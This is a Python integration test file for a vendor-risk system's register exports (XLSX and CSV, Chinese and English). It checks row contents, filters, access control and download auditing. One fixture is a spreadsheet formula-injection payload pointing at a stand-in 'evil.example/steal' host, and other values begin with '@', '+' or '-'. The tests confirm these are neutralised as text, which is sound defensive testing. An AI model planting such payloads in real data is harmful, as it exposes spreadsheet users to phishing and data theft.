"""Every register downloaded as XLSX and CSV, in Chinese and English, read back and checked
against the database; formula payloads come out as text; downloads are audited."""

from __future__ import annotations

import re
from datetime import date
from typing import Any

import asyncpg

from tests.integration.assessments.conftest import Client, NewPartner, User
from tests.integration.partners.conftest import ALL_CLAUSES
from tests.integration.reports.conftest import Post, csv_rows, sheet_rows
from vendor_risk.i18n import translator
from vendor_risk.reports.exports import SPECS

PAYLOAD = '=HYPERLINK("http://evil.example/steal","点我")'


def headers_of(name: str, lang: str) -> list[str]:
    t = translator(lang)
    return [t(c.header) for c in SPECS[name].columns]


def by(rows: list[list[Any]], header: list[str], column: str, value: Any) -> dict[str, Any]:
    index = header.index(column)
    found = [dict(zip(header, r, strict=True)) for r in rows[1:] if r[index] == value]
    assert len(found) == 1, f"{value!r} in {column}: {len(found)} rows"
    return found[0]


async def test_the_partner_register_in_both_languages_and_forms(
    client: Client, db: asyncpg.Connection, new_partner: NewPartner, auditor: User
) -> None:
    partner = await new_partner(
        name=PAYLOAD, legal_name="@SUM(A1:A9) 上海财税服务有限公司", website="https://x.example"
    )
    await db.execute("UPDATE partners SET residual_rating = 'high' WHERE id = $1", partner["id"])
    total = await db.fetchval("SELECT count(*) FROM partners")

    xlsx = await client.get("/api/v1/exports/partners", params={"lang": "zh-CN"}, headers=auditor["headers"])
    assert xlsx.status_code == 200, xlsx.text
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    disposition = xlsx.headers["content-disposition"]
    assert re.search(r'filename="partner-register-\d{8}-\d{4}Z\.xlsx"', disposition), disposition
    assert "filename*=UTF-8''%E5%90%88%E4%BD%9C%E6%96%B9%E6%B8%85%E5%8D%95-" in disposition  # 合作方清单
    rows = sheet_rows(xlsx)
    header = rows[0]
    assert header == headers_of("partner-register", "zh-CN")
    assert len(rows) - 1 == total
    row = by(rows, header, "统一社会信用代码或注册号", partner["credit_code"])
    # Neutralised: a leading apostrophe keeps it text in every spreadsheet program.
    assert row["合作方"] == "'" + PAYLOAD
    assert row["法定名称"] == "'@SUM(A1:A9) 上海财税服务有限公司"
    t = translator("zh-CN")
    assert row["状态"] == t("pstatus_proposed")
    assert row["分级"] == t(f"tier_{partner['tier']}")
    assert row[t("rating")] == t("tier_high")
    assert row["主要联系人"] == "李雷"
    assert row["负责人"] == "王芳"
    assert row["电子邮箱"] == partner["contacts"][0]["email"]

    csv_en = await client.get(
        "/api/v1/exports/partners",
        params={"format": "csv"},
        headers={**auditor["headers"], "Accept-Language": "en"},
    )
    assert csv_en.status_code == 200
    assert csv_en.headers["content-type"].startswith("text/csv")
    assert re.search(r'filename="partner-register-\d{8}-\d{4}Z\.csv"', csv_en.headers["content-disposition"])
    rows = csv_rows(csv_en)
    assert rows[0] == headers_of("partner-register", "en")
    assert len(rows) - 1 == total
    row = by(rows, rows[0], "Credit code or registration number", partner["credit_code"])
    assert row["Partner"] == "'" + PAYLOAD
    assert row["Status"] == "Proposed" == translator("en")("pstatus_proposed")
    assert row[translator("en")("rating")] == translator("en")("tier_high")

    # Filters narrow the register as the list's filters do.
    high = await client.get(
        "/api/v1/exports/partners", params={"format": "csv", "rating": "high"}, headers=auditor["headers"]
    )
    expected = await db.fetchval("SELECT count(*) FROM partners WHERE residual_rating = 'high'")
    assert len(csv_rows(high)) - 1 == expected
    assert (
        await client.get("/api/v1/exports/partners", params={"format": "pdf"}, headers=auditor["headers"])
    ).status_code == 400

    # Each download is audited with who, which register, form and filters.
    events = await db.fetch(
        """
        SELECT actor_label, after FROM audit_events
        WHERE action = 'report.downloaded' AND entity_id = 'partner-register' ORDER BY seq DESC LIMIT 3
        """
    )
    assert [(e["after"]["format"], e["after"]["lang"]) for e in events] == [
        ("csv", "zh-CN"),
        ("csv", "en"),
        ("xlsx", "zh-CN"),
    ]
    assert events[0]["after"]["filters"] == {"rating": ["high"]}
    assert events[2]["after"]["rows"] == total


async def test_the_entrusted_processing_register(
    client: Client,
    db: asyncpg.Connection,
    new_partner: NewPartner,
    post: Post,
    categories: dict[str, dict[str, Any]],
    procurement: User,
    auditor: User,
) -> None:
    partner = await new_partner()
    pid = partner["id"]
    category = categories["bank_accounts"]
    await post(
        f"/api/v1/partners/{pid}/agreements",
        {
            "kind": "dpa",
            "title": "委托处理协议 2025",
            "signed_on": "2025-01-10",
            "expires_on": "2030-01-09",
            "signatories": [{"party": "us", "name": "张三"}, {"party": "partner", "name": "李雷"}],
            "category_ids": [category["id"]],
            "clauses": ALL_CLAUSES,
        },
        procurement,
    )
    scope = await post(
        f"/api/v1/partners/{pid}/scopes",
        {
            "category_id": category["id"],
            "purpose": "代理记账：核对银行流水",
            "processing_methods": ["store", "access_remotely"],
            "transfer_method": "sftp",
            "starts_on": "2025-02-01",
            "ends_on": "2027-01-31",
            "retention_days": 1095,
            "volume_band": "1k_10k",
            "cross_border": False,
            "sub_processing_allowed": True,
        },
        procurement,
    )
    await post(
        f"/api/v1/partners/{pid}/impact-assessments",
        {
            "scope_ids": [scope["id"]],
            "purpose": "核对流水",
            "necessity": "必要",
            "risks": "泄露",
            "measures": "加密",
            "conclusion": "可控",
            "outcome": "acceptable",
            "assessor": "王芳",
            "assessed_on": "2025-01-20",
        },
        procurement,
    )
    response = await client.get(
        "/api/v1/exports/processing-register", params={"lang": "zh-CN"}, headers=auditor["headers"]
    )
    assert response.status_code == 200, response.text
    rows = sheet_rows(response)
    header = rows[0]
    assert header == headers_of("entrusted-processing-register", "zh-CN")
    live = await db.fetchval(
        "SELECT count(*) FROM scopes WHERE status IN ('requested', 'approved', 'suspended')"
    )
    assert len(rows) - 1 == live
    row = by(rows, header, "处理目的", "代理记账：核对银行流水")
    t = translator("zh-CN")
    assert row["合作方"] == partner["name"]
    assert row["统一社会信用代码或注册号"] == partner["credit_code"]
    assert row["数据类别"] == category["name"]["zh-CN"] == "银行账户及流水"
    assert row["敏感程度"] == t("sensitivity_sensitive_personal")
    assert row["处理方式"] == "存储、远程访问"
    assert row["传输方式"] == "SFTP"
    assert row["委托开始"].date() == date(2025, 2, 1)
    assert row["委托结束"].date() == date(2027, 1, 31)
    assert row[t("retention_days")] == 1095
    assert row[t("cross_border")] == "否"
    assert row[t("sub_processing")] == "是"
    assert row["委托处理协议"] == "委托处理协议 2025"
    assert row["协议到期日"].date() == date(2030, 1, 9)
    assert row["个人信息保护影响评估日期"].date() == date(2025, 1, 20)
    assert row["状态"] == t("sstatus_requested")

    english = csv_rows(
        await client.get(
            "/api/v1/exports/processing-register",
            params={"lang": "en", "format": "csv"},
            headers=auditor["headers"],
        )
    )
    row = by(english, english[0], "Purpose", "代理记账：核对银行流水")
    assert row["Data category"] == "Bank accounts and statements"
    assert row["Processing methods"] == "Store, Access remotely"
    assert row["Starts on"] == "2025-02-01"


async def test_agreements_and_findings_registers(
    client: Client,
    db: asyncpg.Connection,
    new_partner: NewPartner,
    post: Post,
    procurement: User,
    risk_owner: User,
    auditor: User,
) -> None:
    partner = await new_partner()
    await post(
        f"/api/v1/partners/{partner['id']}/agreements",
        {
            "kind": "nda",
            "title": "+保密协议 NDA",
            "signed_on": "2020-01-10",
            "expires_on": "2021-01-09",
            "signatories": [{"party": "us", "name": "张三"}, {"party": "partner", "name": "李雷"}],
            "category_ids": [],
        },
        procurement,
    )
    finding = await post(
        "/api/v1/findings",
        {"partner_id": partner["id"], "severity": "high", "title": "-机房门禁失效", "due_on": "2099-01-31"},
        risk_owner,
    )
    agreements = sheet_rows(
        await client.get("/api/v1/exports/agreements", params={"lang": "zh-CN"}, headers=auditor["headers"])
    )
    assert agreements[0] == headers_of("agreements-register", "zh-CN")
    assert len(agreements) - 1 == await db.fetchval("SELECT count(*) FROM agreements")
    row = by(agreements, agreements[0], "标题", "'+保密协议 NDA")
    assert row["合作方"] == partner["name"]
    assert row[translator("zh-CN")("kind")] == "保密协议（NDA）"
    assert row["状态"] == translator("zh-CN")("agstatus_expired")
    assert row["签署人"] == "张三、李雷"

    findings = sheet_rows(
        await client.get(
            "/api/v1/exports/findings",
            params={"lang": "en", "status": "open", "severity": "high"},
            headers=auditor["headers"],
        )
    )
    assert findings[0] == headers_of("findings-tracker", "en")
    expected = await db.fetchval("SELECT count(*) FROM findings WHERE status = 'open' AND severity = 'high'")
    assert len(findings) - 1 == expected
    row = by(findings, findings[0], "Title", "'-机房门禁失效")
    assert row["Partner"] == partner["name"]
    assert row["Severity"] == translator("en")("severity_high")
    assert row["Status"] == translator("en")("fstatus_open")
    assert row["Source"] == "Recorded by hand"
    assert row[translator("en")("overdue")] == "No"
    assert row[translator("en")("due")].date() == date.fromisoformat(finding["due_on"])


async def test_the_audit_extract_is_for_auditors_and_filters_by_entity_and_time(
    client: Client, db: asyncpg.Connection, new_partner: NewPartner, procurement: User, auditor: User
) -> None:
    partner = await new_partner()
    params = {"entity_type": "partner", "entity_id": partner["id"], "lang": "en", "format": "csv"}
    refused = await client.get("/api/v1/exports/audit-events", params=params, headers=procurement["headers"])
    assert refused.status_code == 403
    rows = csv_rows(
        await client.get("/api/v1/exports/audit-events", params=params, headers=auditor["headers"])
    )
    expected = await db.fetch(
        """
        SELECT seq, action, hash FROM audit_events
        WHERE entity_type = 'partner' AND entity_id = $1 ORDER BY seq
        """,
        partner["id"],
    )
    assert rows[0] == headers_of("audit-extract", "en")
    assert [(int(r[0]), r[3], r[8]) for r in rows[1:]] == [
        (e["seq"], e["action"], e["hash"]) for e in expected
    ]
    assert expected[0]["action"] == "partner.created"
    future = csv_rows(
        await client.get(
            "/api/v1/exports/audit-events",
            params={**params, "from": "2099-01-01T00:00:00Z"},
            headers=auditor["headers"],
        )
    )
    assert future == [rows[0]]
